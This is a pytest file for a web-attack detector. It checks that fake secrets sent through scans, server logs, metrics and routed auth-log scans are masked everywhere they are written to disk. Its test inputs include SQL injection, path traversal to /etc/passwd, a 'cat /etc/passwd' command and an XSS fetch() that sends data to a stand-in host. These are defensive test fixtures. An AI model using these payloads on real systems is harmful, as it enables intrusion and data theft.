"""Issue 18, item 7: known secrets written through every output path are found nowhere on disk.

The paths: scan findings (JSONL and CSV, text and evidence), the API server's access log and its
``/metrics`` page (saved to a file here, as a scraper would store it), and learned profiles (their
own, deeper test is ``tests/test_privacy_profiles.py``). Each path gets requests that carry the
secrets in query values, bodies, headers and next to an attack (so that evidence is written).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from secllm.scan import scan

SECRETS = {
    "email": "alice.secret@example.com",
    "stripe": "sk_live_4eC39HqLyjWDarjtT1zdp7dcQ7xVp2",
    "ssn": "078-05-1120",
    "phone": "13812345678",
    "card": "4111 1111 1111 1111",
    "cn_id": "110101199003074514",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
}


def _texts() -> list[str]:
    s = SECRETS
    return [f"/account?email={s['email']}&key={s['stripe']}&id=1' union select password from users--",
            f"<script>fetch('//x.example/?c='+'{s['email']}')</script> card {s['card']}",
            f"ssn={s['ssn']}&phone={s['phone']}&cid={s['cn_id']}&q=../../../../etc/passwd",
            f"Authorization: Bearer {s['jwt']} ; cat /etc/passwd",
            f"note for {s['email']} about order 12"]


def _assert_no_secret(files: list[Path]) -> None:
    assert files
    for p in files:
        data = p.read_bytes()
        assert data, p
        for kind, secret in SECRETS.items():
            assert secret.encode() not in data, f"{kind} found in {p.name}"
        assert b"sk_live_4eC" not in data and b"alice.secret" not in data, p


@pytest.fixture(scope="module")
def shipped():
    pytest.importorskip("onnxruntime")
    from secllm.detect.detector import WebAttackDetector

    det = WebAttackDetector.load(None, backend="onnx-int8")
    det.threshold, det.prefilter = 0.0, False          # every item is a finding, with evidence
    return det


def test_scan_findings_keep_no_secrets(tmp_path, shipped):
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in enumerate(_texts())))
    outs = []
    for fmt in ("jsonl", "csv"):
        p = tmp_path / f"findings.{fmt}"
        with open(p, "w", encoding="utf-8", newline="") as f:
            scan([src], shipped, f, out_format=fmt, all_items=True, progress=False)
        outs.append(p)
    rows = [json.loads(x) for x in outs[0].read_text().splitlines()]
    assert len(rows) == len(_texts()) and all(r["masked"] for r in rows)
    assert any(r["evidence"] for r in rows), "evidence was written (and masked)"
    assert "<email>" in rows[0]["text"] and "union select" in rows[0]["text"], "the attack stays readable"
    assert len(list(csv.reader(io.StringIO(outs[1].read_text())))) == len(_texts()) + 1
    _assert_no_secret(outs)


def test_scan_raw_text_keeps_the_text_when_asked(tmp_path, shipped):
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({"text": _texts()[0]}) + "\n")
    out = io.StringIO()
    scan([src], shipped, out, all_items=True, progress=False, raw_text=True)
    row = json.loads(out.getvalue())
    assert row["text"] == _texts()[0] and "masked" not in row   # the test above can fail


def test_server_log_and_metrics_keep_no_secrets(tmp_path):
    pytest.importorskip("fastapi")
    pytest.importorskip("httpx")
    pytest.importorskip("onnxruntime")
    from fastapi.testclient import TestClient

    from secllm.serve.app import create_app

    log_path = tmp_path / "access.log"
    with open(log_path, "w", encoding="utf-8") as log:
        c = TestClient(create_app(None, tasks=["web-attack"], threads=1, log_stream=log),
                       base_url="http://127.0.0.1:8000")
        r = c.post("/v1/detect", json={"items": [{"id": SECRETS["email"], "text": t} for t in _texts()]})
        assert r.status_code == 200, r.text
        assert c.post("/v1/detect", content=b'{"items": [' + SECRETS["stripe"].encode(),
                      headers={"content-type": "application/json"}).status_code in (400, 422)
        c.get(f"/v1/{SECRETS['stripe']}?email={SECRETS['email']}")          # an unknown route
        metrics = c.get("/metrics")
        assert metrics.status_code == 200
    (tmp_path / "metrics.txt").write_text(metrics.text)
    assert "/v1/detect" in log_path.read_text(), "the access log was written"
    _assert_no_secret([log_path, tmp_path / "metrics.txt"])


def test_routed_scan_names_an_auth_logs_source_by_pseudonym(tmp_path):
    pytest.importorskip("onnxruntime")
    from secllm.detect.route import Router

    ip = "203.0.113.77"
    log = tmp_path / "auth.log"
    log.write_text("".join(f"Dec 10 06:55:{s:02d} host sshd[1]: Failed password for {SECRETS['email']} from {ip} "
                           "port 22 ssh2\n" for s in range(30)))
    out = tmp_path / "findings.jsonl"
    with open(out, "w", encoding="utf-8") as f:
        scan([log], Router(backend="onnx-int8"), f, progress=False, ip_key=b"k")
    rows = [json.loads(x) for x in out.read_text().splitlines()]
    assert rows and all(r["attack_type"] == "brute-force" for r in rows), rows[:2]
    assert all(r["details"]["source"].startswith("ip-") for r in rows)
    assert ip.encode() not in out.read_bytes()
    _assert_no_secret([out])
